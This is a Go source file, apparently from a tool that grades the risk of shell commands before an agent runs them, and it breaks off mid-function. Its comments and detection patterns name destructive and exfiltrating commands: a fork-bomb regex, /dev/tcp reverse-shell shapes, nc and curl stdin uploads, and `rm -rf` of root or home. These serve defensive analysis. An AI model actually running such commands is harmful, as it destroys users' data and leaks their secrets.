package risk

import (
	"github.com/wardenhq/warden/approvals/command"
	"github.com/wardenhq/warden/approvals/safe"
	"github.com/wardenhq/warden/internal/lazyre"
	"github.com/wardenhq/warden/sandbox"

	"fmt"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"sort"
	"strings"
	"time"
)

// Level grades what a command could do if it did its worst.
type Level int

const (
	Low Level = iota
	Medium
	High
)

func (l Level) String() string {
	switch l {
	case Low:
		return "low"
	case Medium:
		return "medium"
	case High:
		return "high"
	}
	return fmt.Sprintf("RiskLevel(%d)", int(l))
}

func (l Level) MarshalText() ([]byte, error) { return []byte(l.String()), nil }

// Category names a kind of harm.
type Category string

const (
	DataDeletion        Category = "data_deletion"
	DataExfiltration    Category = "data_exfiltration"
	PrivilegeEscalation Category = "privilege_escalation"
	SystemModification  Category = "system_modification"
	NetworkAccess       Category = "network_access"
	ResourceExhaustion  Category = "resource_exhaustion"
	HistoryRewrite      Category = "history_rewrite"
)

// Risk is the static assessment of a command: facts read off the command
// line and the filesystem, offline, in microseconds to milliseconds.
type Risk struct {
	Level      Level      `json:"level"`
	Categories []Category `json:"categories"`
	Summary    string     `json:"summary"`
	Facts      []string   `json:"facts"`
	// ReadsSecrets: the command reads credentials, so it is never
	// known-safe and always asks (refused under never).
	ReadsSecrets bool
	// sandboxStops: every high-risk fact is one a restricted sandbox stops
	// (writes outside the writable roots, root privileges, the network
	// when it is off), so under never the command may run sandboxed; a
	// high-risk fact about what the sandbox lets through (deleting inside
	// the writable roots, rewriting history) makes never refuse it.
	SandboxStops bool
	// hosts are the network destinations the command names (Hosts).
	hosts []string
}

// Hosts lists the hosts the analysis found the command contacting, in the
// order found (for the network part of policy check).
func (r Risk) Hosts() []string { return r.hosts }

// Context is where a command would run.
type Context struct {
	Cwd     string
	Sandbox sandbox.Policy
	// Home is the user's home directory, shown as ~ in facts. Empty means
	// os.UserHomeDir.
	Home string
	// Recorded are the roots whose changes Warden records for undo (the
	// workspace, unless record_changes is off): a deletion there can be
	// undone; one past the copy limit, or in a writable directory outside
	// them, cannot (undo.go).
	Recorded []string
}

// assessor accumulates facts for one command line.
type Assessor struct {
	Ctx         Context
	Roots       []string
	level       Level
	categories  map[Category]bool
	facts       []riskFact
	seen        map[string]bool
	hosts       []string // network destinations, for exfiltration pairing
	remotes     []string // the repository's remote hosts, read when first needed
	remotesRead bool
	secrets     []string // secret files read
	unstopped   bool     // a high-risk fact the sandbox does not stop
	mkdir       bool     // the writes are directories made (mkdir)
	// stdinSenders are the hosts commands of the line send their input
	// to (curl -T -, -d @-, nc HOST PORT), for pipedUploads.
	stdinSenders []string
	// netFDs are the hosts an `exec N<>/dev/tcp/...` of the line opened a
	// descriptor to, for a shell that reads from it (shellOnSocket).
	netFDs []string
	// repointed are the git remotes the line adds or changes, by name:
	// their URLs.
	repointed map[string]string
}

type riskFact struct {
	level Level
	text  string
}

// factsBySeverity lists the facts, most severe first, in discovery order
// within a level.
func (as *Assessor) FactsBySeverity() []string {
	sort.SliceStable(as.facts, func(i, j int) bool { return as.facts[i].level > as.facts[j].level })
	out := make([]string, len(as.facts))
	for i, f := range as.facts {
		out[i] = f.text
	}
	return out
}

// newAssessor starts the facts of one command line (or patch, or read) in ctx.
func NewAssessor(ctx Context) *Assessor {
	return &Assessor{Ctx: ctx, categories: map[Category]bool{}, seen: map[string]bool{}}
}

// Found is what the assessor found so far, as a Risk without a summary:
// the highest level, the categories and the facts worst first.
func (as *Assessor) Found() Risk {
	r := Risk{Level: as.level, Categories: make([]Category, 0, len(as.categories)), Facts: as.FactsBySeverity()}
	for c := range as.categories {
		r.Categories = append(r.Categories, c)
	}
	return r
}

// ReadsSecret reports whether a read the assessor judged was of a secret.
func (as *Assessor) ReadsSecret() bool { return len(as.secrets) > 0 }

// Assess reports what the analysed command line would do. It reads the
// filesystem (to count what a deletion removes, to find a git remote's host)
// but never runs anything.
func Assess(a *command.Analysis, ctx Context) Risk {
	if ctx.Home == "" {
		ctx.Home, _ = os.UserHomeDir()
	}
	as := NewAssessor(ctx)
	as.Roots = append(as.Roots, ctx.Sandbox.WritableRoots...)
	// The workspace is writable; the cwd counts as writable only for a
	// caller that declares no workspace (with one, a cwd outside it is
	// outside: see workdir.go).
	if ctx.Sandbox.Mode != sandbox.ReadOnly {
		as.Roots = append(as.Roots, ctx.Sandbox.Workspace...)
		if ctx.Cwd != "" && len(ctx.Sandbox.Workspace) == 0 {
			as.Roots = append(as.Roots, ctx.Cwd)
		}
	}
	text := as.line(a)
	if len(as.secrets) > 0 && len(as.hosts) > 0 && !as.categories[DataExfiltration] {
		as.Add(High, DataExfiltration, fmt.Sprintf("reads secrets (%s) and contacts %s", strings.Join(as.secrets, ", "), strings.Join(as.hosts, ", ")))
	}
	as.pipedUploads(text)
	cats := make([]Category, 0, len(as.categories))
	for c := range as.categories {
		cats = append(cats, c)
	}
	sort.Slice(cats, func(i, j int) bool { return cats[i] < cats[j] })
	r := Risk{Level: as.level, Categories: cats, Facts: as.FactsBySeverity(), ReadsSecrets: len(as.secrets) > 0,
		SandboxStops: !as.unstopped && ctx.Sandbox.Mode != sandbox.DangerFullAccess, hosts: as.hosts}
	r.Summary = Summarize(a, r)
	return r
}

// line judges one analysed command line: each command, then what only the
// whole text shows (downloads run by a shell, credentials, git's
// environment). It returns the text for the checks across the line.
func (as *Assessor) line(a *command.Analysis) string {
	for _, p := range a.Problems {
		as.Add(Medium, "", "not fully analysed: "+p)
	}
	if strings.Contains(a.Script, "()") && strings.Contains(a.Script, "&") && forkBomb().MatchString(a.Script) {
		as.Add(High, ResourceExhaustion, "fork bomb: starts processes without end")
	}
	for _, seg := range a.Segments {
		as.segment(seg)
	}
	text := commandLineText(a)
	as.runtimeCredentials(text)
	as.credentialAssignments(a.Assignments)
	as.scriptReads(text)
	as.downloadIntoShell(text)
	as.gitEnvironment(text, rawCommandLine(a))
	return text
}

// awkProgram is awk's program text: the first operand unless -f names a
// file (then "", unread), after -v/-F values.
func awkProgram(args []string) string {
	for i := 0; i < len(args); i++ {
		switch a := args[i]; {
		case a == "-f" || strings.HasPrefix(a, "--file"):
			return ""
		case a == "-v" || a == "-F" || a == "--assign" || a == "--field-separator":
			i++
		case a == "--":
			if i+1 < len(args) {
				return args[i+1]
			}
			return ""
		case strings.HasPrefix(a, "-") && a != "-":
		default:
			return a
		}
	}
	return ""
}

// awkPipe matches awk's output to a command: print … | "cmd", "cmd" | getline.
var awkPipe = lazyre.New(`(?:print|printf)[^;}]*\|&?\s*"|"\s*\|&?\s*getline`)

var forkBomb = lazyre.New(`(\w+|:)\s*\(\)\s*\{[^}]*\b?(\w+|:)\s*\|\s*(\w+|:)\s*&`)

func Summarize(a *command.Analysis, r Risk) string {
	if len(r.Facts) == 0 {
		prog := "the command"
		if len(a.Segments) > 0 && len(a.Segments[0].Argv) > 0 {
			prog = a.Segments[0].Argv[0]
		}
		if len(a.Segments) > 1 {
			return fmt.Sprintf("Runs %d commands (%s, ...); nothing risky found", len(a.Segments), prog)
		}
		return fmt.Sprintf("Runs %s; nothing risky found", prog)
	}
	s := r.Facts[0]
	if len(r.Facts) > 1 {
		s += "; " + r.Facts[1]
	}
	if len(r.Facts) > 2 {
		s += fmt.Sprintf(" (+%d more)", len(r.Facts)-2)
	}
	return strings.ToUpper(s[:1]) + s[1:]
}

// add records a fact; a high-risk one counts as something the sandbox
// does not stop (fail closed) unless recorded with stopped.
func (as *Assessor) Add(level Level, cat Category, fact string) {
	if level == High {
		as.unstopped = true
	}
	as.record(level, cat, fact)
}

// stopped records a fact about an effect a restricted sandbox prevents.
func (as *Assessor) stopped(level Level, cat Category, fact string) {
	as.record(level, cat, fact)
}

// stoppedIf records a fact the sandbox stops when stops holds.
func (as *Assessor) stoppedIf(stops bool, level Level, cat Category, fact string) {
	if stops {
		as.stopped(level, cat, fact)
	} else {
		as.Add(level, cat, fact)
	}
}

// outsideRoots records a change to a path outside the writable roots
// (beyond). A restricted sandbox refuses it, so the fact says that first and
// then what the command does outside the sandbox: beside the dialog's "runs
// sandboxed" line a bare "deletes 8,665 files" would be untrue. why, when not
// empty, says why the sandbox refuses (the fact may say it already).
func (as *Assessor) outsideRoots(beyond bool, level Level, cat Category, why, fact string) {
	if beyond && as.confined() {
		if why != "" {
			why = " (" + why + ")"
		}
		fact = fmt.Sprintf("in the sandbox this %s is refused%s; outside it, it %s", changeNoun(fact), why, fact)
	}
	as.stoppedIf(beyond, level, cat, fact)
}

// changeNoun names the change a fact's verb makes: "deletes …" is a delete.
func changeNoun(fact string) string {
	verb, _, _ := strings.Cut(fact, " ")
	switch verb {
	case "deletes":
		return "delete"
	case "writes":
		return "write"
	case "moves":
		return "move"
	case "changes":
		return "change"
	}
	return "change"
}

// notWritable is why the sandbox refuses a change outside the roots.
const notWritable = "outside the writable roots"

// beyondSandbox: a path no sandboxed command may write (outside the
// writable roots and the temporary directories that are roots).
func (as *Assessor) beyondSandbox(p string) bool {
	if as.Inside(p) || as.scratch(p) {
		return false
	}
	// Nor a directory holding one: `rm -rf /`, `find / -delete` reach them.
	for _, r := range append(append(slices.Clone(as.Roots), as.Ctx.Sandbox.Workspace...), "/tmp", "/private/tmp", os.Getenv("TMPDIR")) {
		if r != "" && Within(p, filepath.Clean(r)) {
			return false
		}
	}
	return true
}

// offline: the sandbox gives the command no network of its own: off, or
// ask, where every new host goes through the proxy's own decision.
// confined reports whether the command runs in a sandbox that limits the
// filesystem at all.
func (as *Assessor) confined() bool { return as.Ctx.Sandbox.Mode != sandbox.DangerFullAccess }

func (as *Assessor) offline() bool { return as.Ctx.Sandbox.Network != sandbox.NetworkOn }

func (as *Assessor) record(level Level, cat Category, fact string) {
	if as.seen[fact] {
		return
	}
	as.seen[fact] = true
	if level > as.level {
		as.level = level
	}
	if cat != "" {
		as.categories[cat] = true
	}
	as.facts = append(as.facts, riskFact{level, fact})
}

func (as *Assessor) segment(seg command.Segment) {
	u := command.UnwrapFull(seg.Argv)
	inner := u.Argv
	for _, w := range u.Privileged {
		as.stopped(High, PrivilegeEscalation, fmt.Sprintf("runs as root (%s)", w)) // no_new_privs
	}
	if seg.Assigns || u.Assigns {
		as.Add(Medium, "", "runs with changed environment variables")
	}
	if n := len(seg.Argv) - len(inner); n > 0 {
		as.credentialSettings(seg.Argv[:n]) // the wrappers' words
	}
	interactive := len(inner) > 0 && readsCommands(inner)
	for _, r := range seg.Redirects {
		if host, ok := bashNetPath(r.Target); ok {
			as.contacts(host, Medium)
			switch {
			case interactive:
				as.shellOnSocket(host)
			case len(inner) == 0:
				as.netFDs = append(as.netFDs, host) // `exec 3<>/dev/tcp/...`
			}
			continue
		}
		if !r.Write {
			as.Reads(r.Target)
			continue
		}
		if !r.WritesFile() {
			continue
		}
		if !r.Literal {
			as.Add(Medium, "", "writes to a file named at run time: "+r.Target)
			continue
		}
		as.writes(r.Target, r.Op == ">" || r.Op == "&>" || r.Op == ">|")
	}
	as.environment(u)
	if len(inner) == 0 {
		return
	}
	if interactive && len(as.netFDs) > 0 && len(seg.Redirects) == 0 {
		as.shellOnSocket(as.netFDs[0]) // `sh <&3 >&3` after exec opened it
	}
	prog := filepath.Base(inner[0])
	args := inner[1:]
	switch prog {
	case "rm", "unlink", "rmdir", "shred":
		if u.Appends && len(u.Wrappers) > 0 {
			// `ls | xargs rm -rf`: what it deletes arrives at run time.
			as.Add(High, DataDeletion, fmt.Sprintf("deletes paths named at run time (%s %s)", u.Wrappers[len(u.Wrappers)-1], prog))
		}
		as.remove(prog, args)
	case "su":
		as.stopped(High, PrivilegeEscalation, "runs as root (su)")
	case "git":
		as.git(args)
	case "curl", "wget", "http", "https", "xh", "aria2c":
		as.fetch(prog, args)
	case "ssh", "scp", "sftp", "rsync", "nc", "ncat", "netcat", "telnet", "ftp", "ping", "dig", "nslookup", "host", "socat":
		as.remote(prog, args)
	case "npm", "pnpm", "yarn", "pip", "pip3", "cargo", "go", "gem", "bundle", "composer", "uv", "poetry",
		"conda", "mamba", "micromamba", "pipx", "npx", "pnpx", "bunx", "uvx", "yt-dlp", "youtube-dl",
		"hf", "huggingface-cli", "gh", "rustup", "ollama", "mvn", "gradle", "gradlew", "docker", "podman", "nerdctl",
		"aws", "gsutil", "gcloud":
		as.packages(prog, args)
	case "apt", "apt-get", "dnf", "yum", "pacman", "apk", "zypper", "brew", "snap":
		if len(args) > 0 && (args[0] == "install" || args[0] == "remove" || args[0] == "purge" || args[0] == "upgrade" || args[0] == "-S" || args[0] == "add" || args[0] == "del") {
			as.stopped(High, SystemModification, fmt.Sprintf("changes system packages (%s %s)", prog, args[0]))
			as.Add(Medium, NetworkAccess, "contacts the "+prog+" package repositories")
		}
	case "systemctl", "service", "crontab":
		if !serviceQuery(prog, args) {
			as.stopped(High, SystemModification, fmt.Sprintf("changes system configuration (%s)", prog))
		}
	case "mount", "umount", "modprobe", "insmod", "rmmod", "sysctl",
		"useradd", "userdel", "usermod", "passwd", "chpasswd", "iptables", "ip6tables", "nft", "ufw",
		"chattr", "fdisk", "parted", "sfdisk", "swapon", "swapoff", "reboot", "shutdown", "halt", "update-alternatives":
		as.stopped(High, SystemModification, fmt.Sprintf("changes system configuration (%s)", prog))
	case "kill", "pkill", "killall":
		as.Add(Medium, SystemModification, fmt.Sprintf("stops processes (%s)", prog))
	case "cp", "mv", "install", "ln":
		as.copyMove(prog, args)
	case "sort":
		if out := optionValue(args, "-o", "--output"); out != "" {
			as.writes(out, true)
		}
	case "uniq":
		// `uniq [OPTION]... [INPUT [OUTPUT]]`
		if ops := safe.OperandsOf(args, "fsw"); len(ops) == 2 {
			as.writes(ops[1], true)
		}
	case "tee", "touch", "mkdir", "truncate":
		as.mkdir = prog == "mkdir"
		for _, f := range Operands(args) {
			as.writes(f, prog == "truncate" || prog == "tee" && !hasFlag(args, "-a", "--append"))
		}
		as.mkdir = false
	case "dd":
		as.dd(args)
	case "sed", "perl":
		if prog == "perl" && perlInline(args) {
			as.Add(Medium, "", "runs inline perl code, which Warden cannot analyse")
		}
		if hasFlagPrefix(args, "-i") || hasFlagPrefix(args, "--in-place") {
			ops := Operands(args)
			if prog == "sed" && len(ops) > 0 && !hasFlagPrefix(args, "-e") && !hasFlagPrefix(args, "-f") {
				ops = ops[1:] // the script
			}
			for _, f := range ops {
				as.writes(f, false)
			}
		}
	case "chmod", "chown", "chgrp":
		as.chmod(prog, args)
	case "find":
		if hasFlag(args, "-delete") || (hasFlag(args, "-exec", "-execdir") && (slices.Contains(args, "rm") || slices.Contains(args, "/bin/rm"))) {
			as.findDelete(args)
		}
		as.findExecs(args)
	case "yes":
		as.Add(Medium, ResourceExhaustion, "writes output without end (yes)")
	case "python", "python3", "node", "ruby", "perl5", "php", "lua", "deno", "bun", "osascript", "pwsh", "powershell":
		if len(args) >= 2 && args[0] == "-m" && (args[1] == "pip" || args[1] == "pip3") {
			as.packages("pip", args[2:])
		}
		if prog == "bun" {
			as.packages("bun", args) // bun install, bun add
		}
		if hasFlag(args, "-c", "-e", "--eval", "-r") {
			as.Add(Medium, "", fmt.Sprintf("runs inline %s code, which Warden cannot analyse", prog))
		}
	case "awk", "gawk", "mawk", "nawk", "busybox-awk":
		if code := awkProgram(args); strings.Contains(code, "system(") || awkPipe().MatchString(code) {
			as.Add(Medium, "", fmt.Sprintf("runs commands from inline %s code, which Warden cannot analyse", prog))
		}
	case "vim", "vi", "nvim", "ex", "view", "gvim":
		for i, a := range args {
			cmd := ""
			switch {
			case (a == "-c" || a == "--cmd") && i+1 < len(args):
				cmd = args[i+1]
			case strings.HasPrefix(a, "+") && len(a) > 1:
				cmd = a[1:]
			case strings.HasPrefix(a, "-S"):
				cmd = "source"
			}
			if strings.Contains(cmd, "!") || strings.Contains(cmd, "system(") || cmd == "source" || strings.HasPrefix(cmd, "lua") || strings.HasPrefix(cmd, "py") {
				as.Add(Medium, "", fmt.Sprintf("runs editor commands that may start programs, which Warden cannot analyse (%s %s)", prog, a))
				break
			}
		}
	case "eval", "source", ".":
		as.Add(Medium, "", fmt.Sprintf("runs code Warden cannot analyse (%s)", prog))
	case "mkfs", "mkfs.ext4", "mkfs.xfs", "mkfs.vfat", "mkfs.btrfs", "wipefs":
		as.stopped(High, DataDeletion, fmt.Sprintf("formats a filesystem (%s)", prog))
	}
	if strings.HasPrefix(prog, "mkfs.") {
		as.stopped(High, DataDeletion, fmt.Sprintf("formats a filesystem (%s)", prog))
	}
	as.scanSecretWords(prog, readArgs(prog, args))
	ops := Operands(args)
	if what := secretStoreRead(prog, args, ops); what != "" {
		as.readsSecret(what)
	}
	as.services(prog, args, ops)
	as.remoteEffects(prog, args, ops)
	as.exposure(prog, args, ops)
	as.destinations(prog, args, ops)
	if host := stdinUploadHost(prog, args); host != "" {
		as.stdinSenders = append(as.stdinSenders, host)
		for _, r := range seg.Redirects {
			if !r.Write && r.Literal {
				as.stoppedIf(as.offline(), remoteLevel(host), DataExfiltration, fmt.Sprintf("uploads %s to %s", as.Display(as.abs(r.Target), false), host))
			}
		}
	}
	as.credentialsInArgs(prog, args)
}

// ---- deletion ----

func (as *Assessor) remove(prog string, args []string) {
	recursive, force := false, false
	var targets []string
	for i, a := range args {
		if a == "--" {
			targets = append(targets, args[i+1:]...)
			break
		}
		switch {
		case a == "--recursive":
			recursive = true
		case a == "--force":
			force = true
		case len(a) > 1 && a[0] == '-' && a[1] != '-':
			recursive = recursive || strings.ContainsAny(a, "rR")
			force = force || strings.ContainsRune(a, 'f')
		case strings.HasPrefix(a, "--"):
		default:
			targets = append(targets, a)
		}
	}
	if prog == "shred" {
		force = true
	}
	for _, t := range targets {
		if strings.ContainsAny(t, "$`") {
			as.Add(High, DataDeletion, "deletes paths computed at run time: "+t)
			continue
		}
		if strings.ContainsAny(t, "*?[") && as.wholeArea(filepath.Dir(as.abs(t))) {
			as.Add(High, DataDeletion, "deletes everything in "+as.Display(filepath.Dir(as.abs(t)), true))
		}
		paths := as.expand(t)
		if len(paths) == 0 {
			as.deleteMissing(as.abs(t))
			continue
		}
		for _, p := range paths {
			as.deletePath(p, recursive || prog == "rmdir", force)
		}
	}
}

func (as *Assessor) deletePath(path string, recursive, force bool) {
	info, err := os.Lstat(path)
	if err != nil {
		as.deleteMissing(path)
		return
	}
	// Inside the writable roots the sandbox confines a deletion to what
	// the agent may change anyway: only what the facts below find (a large
	// tree, a whole root, repository data) makes it high risk. Elsewhere it
	// is high risk with or without -f.
	level := Medium
	outside := !as.deletable(path)
	if outside || as.critical(path) {
		level = High
	}
	if as.vcsData(path) {
		as.Add(High, DataDeletion, "deletes repository data: "+as.Display(path, info.IsDir()))
	}
	beyond := as.beyondSandbox(path)
	if !info.IsDir() {
		note, raise := as.undoNote(path, beyond, info.Size())
		if raise {
			level = High
		}
		as.outsideRoots(beyond, level, DataDeletion, notWritable, fmt.Sprintf("deletes %s (%s)%s", as.Display(path, false), HumanBytes(info.Size()), note))
		return
	}
	if !recursive {
		as.outsideRoots(beyond, level, DataDeletion, notWritable, fmt.Sprintf("deletes the directory %s if it is empty", as.Display(path, true)))
		return
	}
	files, bytes, complete := CountTree(path, largeDeleteFiles+1, maxCountTime)
	if files == 0 && complete {
		as.outsideRoots(beyond, level, DataDeletion, notWritable, fmt.Sprintf("deletes the empty directory tree %s", as.Display(path, true)))
		return
	}
	if !complete || files > largeDeleteFiles || bytes > largeDeleteBytes {
		level = High
	}
	if complete && level < High && treeHoldsVCS(path) {
		as.Add(High, DataDeletion, "deletes a repository's data (a .git, .hg, .svn or .jj directory) under "+as.Display(path, true))
	}
	more := ""
	if !complete || files > largeDeleteFiles {
		more = "more than "
		files = min(files, largeDeleteFiles)
	}
	note, raise := as.undoNote(path, beyond, 0)
	if raise {
		level = High
	}
	as.outsideRoots(beyond, level, DataDeletion, notWritable, fmt.Sprintf("deletes %s%s %s (%s) under %s%s", more, commas(files), plural(files, "file", "files"), HumanBytes(bytes), as.Display(path, true), note))
}

// largeDeleteFiles and largeDeleteBytes make a recursive deletion inside
// the writable roots high risk: past them it is no longer a build
// directory or a scratch tree.
const (
	largeDeleteFiles = 10_000
	largeDeleteBytes = 1 << 30
)

// vcsNames are the directories that hold a repository's history.
var vcsNames = map[string]bool{".git": true, ".hg": true, ".svn": true, ".jj": true, ".bzr": true}

// vcsData reports a repository's history directory or a directory inside
// one (`.git`, `.git/objects`); a single file there (a stale index.lock, a
// ref) is an ordinary deletion.
func (as *Assessor) vcsData(p string) bool {
	p = filepath.Clean(p)
	if vcsNames[filepath.Base(p)] {
		return true
	}
	for d := filepath.Dir(p); d != filepath.Dir(d); d = filepath.Dir(d) {
		if vcsNames[filepath.Base(d)] {
			info, err := os.Lstat(p)
			return err == nil && info.IsDir()
		}
	}
	return false
}

// treeHoldsVCS reports whether a (small, already counted) tree holds a
// repository's history directory.
func treeHoldsVCS(root string) bool {
	found := false
	_ = filepath.WalkDir(root, func(p string, d os.DirEntry, err error) error {
		if err != nil {
			return nil
		}
		if d.IsDir() && vcsNames[d.Name()] {
			found = true
			return filepath.SkipAll
		}
		return nil
	})
	return found
}

// wholeArea reports a directory whose entire content a glob such as
// `dir/*` deletes when dir is a writable root, the workspace, a temporary
// directory, the home directory, or holds one of them.
func (as *Assessor) wholeArea(dir string) bool {
	dir = filepath.Clean(dir)
	areas := append(append([]string{as.Ctx.Home}, as.Roots...), tempDirs()...)
	for _, r := range areas {
		if r != "" && Within(dir, filepath.Clean(r)) {
			return true
		}
	}
	return false
}

// deleteMissing reports the deletion of a path that does not exist now: it
// may by the time the command runs, so outside the places the agent may
// write it is high risk all the same.
func (as *Assessor) deleteMissing(path string) {
	level := Medium
	if !as.deletable(path) || as.critical(path) || as.vcsData(path) {
		level = High
	}
	as.outsideRoots(as.beyondSandbox(path), level, DataDeletion, notWritable, fmt.Sprintf("deletes %s (nothing there now)", as.Display(path, false)))
}

// deletable reports whether deleting path stays where the agent may change
// things: the writable roots and the temporary directories (a home
// directory placed under one is still the user's).
func (as *Assessor) deletable(path string) bool {
	if as.Inside(path) {
		return true
	}
	if as.Ctx.Home != "" && Within(as.Ctx.Home, path) {
		return false
	}
	for _, dir := range tempDirs() {
		if dir != "" && path != filepath.Clean(dir) && Within(dir, path) {
			return true
		}
	}
	return false
}

// scratch reports a path inside /tmp or $TMPDIR (not the directory
// itself), writable roots of workspace-write: writing there is not writing
// outside the workspace. Under read-only nothing is writable; a home
// directory placed there is still the user's.
func (as *Assessor) scratch(p string) bool {
	if as.Ctx.Sandbox.Mode == sandbox.ReadOnly || (as.Ctx.Home != "" && Within(as.Ctx.Home, p)) {
		return false
	}
	for _, dir := range []string{"/tmp", "/private/tmp", os.Getenv("TMPDIR")} {
		if dir != "" && filepath.Clean(p) != filepath.Clean(dir) && Within(dir, p) {
			return true
		}
	}
	return false
}

// tempDirs are the system's directories for temporary files.
func tempDirs() []string {
	return []string{"/tmp", "/var/tmp", "/private/tmp", os.Getenv("TMPDIR")}
}

// maxCountedFiles and maxCountTime bound the walk that counts what a
// deletion removes; past them the fact says "more than".
const (
	maxCountedFiles = 1_000_000
	maxCountTime    = time.Second
)

// expand resolves a target against the cwd and expands glob characters the
// way the shell would.
func (as *Assessor) expand(t string) []string {
	p := as.abs(t)
	if strings.ContainsAny(t, "*?[") {
		matches, _ := filepath.Glob(p)
		return matches
	}
	if _, err := os.Lstat(p); err != nil {
		return nil
	}
	return []string{p}
}

// critical reports paths whose deletion is never routine.
func (as *Assessor) critical(p string) bool {
	p = filepath.Clean(p)
	if p == "/" || p == as.Ctx.Home || p == filepath.Clean(as.Ctx.Cwd) {
		return true
	}
	// A writable root, the workspace or a temporary directory itself, or a
	// directory that holds one.
	for _, r := range append(append(slices.Clone(as.Roots), as.Ctx.Sandbox.Workspace...), tempDirs()...) {
		if r != "" && Within(p, filepath.Clean(r)) {
			return true
		}
	}
	for _, dir := range tempDirs() {
		if dir != "" && p != filepath.Clean(dir) && Within(dir, p) {
			return false // /var/tmp/x is not /var
		}
	}
	for _, dir := range SystemDirs {
		if p == dir || strings.HasPrefix(p, dir+"/") {
			return true
		}
	}
	return false
}

var SystemDirs = []string{"/etc", "/usr", "/bin", "/sbin", "/lib", "/lib64", "/boot", "/var", "/opt", "/sys", "/proc", "/dev", "/root"}

// findDelete judges `find ... -delete` and `find ... -exec rm`: what
// find selects under its start directories. Inside the writable roots,
// selected by name or path (`find . -name '*.pyc' -delete`), the sandbox
// confines it like an rm of those files; everything else it may select
// (no name test, a start outside, repository data) is high risk.
func (as *Assessor) findDelete(args []string) {
	var roots []string
	for _, a := range args {
		if strings.HasPrefix(a, "-") || a == "(" || a == "!" {
			break
		}
		roots = append(roots, a)
	}
	if len(roots) == 0 {
		roots = []string{"."}
	}
	named := false
	for i, a := range args {
		switch a {
		case "-name", "-iname", "-path", "-ipath", "-wholename", "-iwholename", "-regex", "-iregex":
			if i+1 < len(args) {
				// A pattern of wildcards alone (`-name '*'`) selects
				// everything: no name test at all.
				named = named || strings.Trim(args[i+1], "*?.[]/") != ""
				for _, el := range strings.Split(args[i+1], "/") {
					if vcsNames[strings.Trim(el, "*")] {
						as.Add(High, DataDeletion, "deletes repository data ("+args[i+1]+")")
					}
				}
			}
		}
	}
	for _, r := range roots {
		p := as.abs(r)
		level := Medium
		if strings.ContainsAny(r, "$`") || !as.deletable(p) && !as.Inside(p) || as.vcsData(p) || !named {
			level = High
		}
		stops := as.beyondSandbox(p) && !strings.ContainsAny(r, "$`")
		if !named {
			as.outsideRoots(stops, level, DataDeletion, notWritable, "deletes the files find matches under "+as.Display(p, true))
		} else {
			as.outsideRoots(stops, level, DataDeletion, notWritable, "deletes the files find matches by name under "+as.Display(p, true))
		}
	}
}

// serviceQuery: systemctl, service and crontab asked only to show state.
func serviceQuery(prog string, args []string) bool {
	ops := Operands(args)
	switch prog {
	case "crontab":
		return len(args) == 1 && args[0] == "-l"
	case "service":
		return len(ops) == 2 && ops[1] == "status" || len(args) == 1 && args[0] == "--status-all"
	}
	if len(ops) == 0 {
		return len(args) == 0 // bare systemctl lists units
	}
	switch ops[0] {
	case "status", "show", "cat", "is-active", "is-enabled", "is-failed", "list-units", "list-unit-files",
		"list-timers", "list-sockets", "list-dependencies", "list-jobs":
		return true
	}
	return false
}

// ---- writes ----

func (as *Assessor) writes(target string, truncates bool) {
	if strings.ContainsAny(target, "$`") {
		as.Add(Medium, "", "writes to a path computed at run time: "+target)
		return
	}
	p := as.abs(target)
	// A file in a writable root under /dev (a /dev/shm scratch directory)
	// is a file like any other, and /dev/shm holds files, not devices.
	if strings.HasPrefix(p, "/dev/") && !as.Inside(p) && !strings.HasPrefix(p, "/dev/shm/") {
		if p == "/dev/null" || p == "/dev/stdout" || p == "/dev/stderr" || p == "/dev/tty" {
			return
		}
		as.outsideRoots(true, High, SystemModification, "", "writes to a device: "+p)
		return
	}
	as.gitFileWrite(p)
	if !as.Inside(p) && as.Ctx.Sandbox.Mode == sandbox.ReadOnly && as.Ctx.Cwd != "" && Within(as.Ctx.Cwd, p) {
		as.Add(Medium, "", "writes "+as.Display(p, false)+" (the read-only sandbox blocks writes)")
		return
	}
	if !as.Inside(p) && !as.scratch(p) {
		cat := Category("")
		if as.systemOrShellConfig(p) {
			cat = SystemModification
		}
		as.outsideRoots(true, High, cat, "", "writes outside the workspace: "+as.Display(p, false))
		return
	}
	if truncates {
		if info, err := os.Stat(p); err == nil && info.Mode().IsRegular() && info.Size() > 0 {
			as.Add(Medium, DataDeletion, fmt.Sprintf("overwrites %s (%s)", as.Display(p, false), HumanBytes(info.Size())))
		}
	}
}

func (as *Assessor) systemOrShellConfig(p string) bool {
	for _, dir := range SystemDirs {
		if Within(dir, p) {
			return true
		}
	}
	base := filepath.Base(p)
	if filepath.Dir(p) == as.Ctx.Home && (strings.HasPrefix(base, ".bash") || strings.HasPrefix(base, ".zsh") || base == ".profile" || base == ".gitconfig") {
		return true
	}
	return strings.HasPrefix(p, filepath.Join(as.Ctx.Home, ".ssh")+"/") || strings.HasPrefix(p, filepath.Join(as.Ctx.Home, ".config", "autostart")+"/")
}

// perlInline says whether perl runs code from its command line: -e or -E,
// alone or in a cluster such as -ne or -lpe.
func perlInline(args []string) bool {
	for _, a := range args {
		if a == "--" || !strings.HasPrefix(a, "-") {
			return false // the script's name, or its arguments
		}
		if !strings.HasPrefix(a, "--") && strings.ContainsAny(a[1:], "eE") {
			return true
		}
	}
	return false
}

// findExecs judges the commands find runs on what it selects (-exec,
// -execdir, -ok, -okdir), each file standing as START/…: `find . -exec sh
// -c 'rm -rf ~' \;` deletes the home directory whatever find selects. Its
// rm is judged by findDelete, on what find selects.
func (as *Assessor) findExecs(args []string) {
	start := "."
	if len(args) > 0 && !strings.HasPrefix(args[0], "-") && args[0] != "(" && args[0] != "!" {
		start = args[0]
	}
	file := filepath.Join(start, "…")
	for _, cmd := range safe.FindCommands(args) {
		if len(cmd) == 0 {
			continue
		}
		switch filepath.Base(cmd[0]) {
		case "rm", "unlink", "rmdir", "shred":
			continue
		}
		argv := make([]string, len(cmd))
		for i, w := range cmd {
			argv[i] = strings.ReplaceAll(w, "{}", file)
		}
		as.pipedUploads(as.line(command.Analyze(argv)))
	}
}

func (as *Assessor) copyMove(prog string, args []string) {
	ops := Operands(args)
	dest, intoDir := "", false
	for i, a := range args {
		if (a == "-t" || a == "--target-directory") && i+1 < len(args) {
			dest, intoDir = args[i+1], true
			ops = slices.DeleteFunc(ops, func(op string) bool { return op == dest })
		} else if strings.HasPrefix(a, "--target-directory=") {
			dest, intoDir = strings.TrimPrefix(a, "--target-directory="), true
		}
	}
	if dest == "" && len(ops) >= 2 {
		dest = ops[len(ops)-1]
		ops = ops[:len(ops)-1]
	}
	if dest == "" {
		return
	}
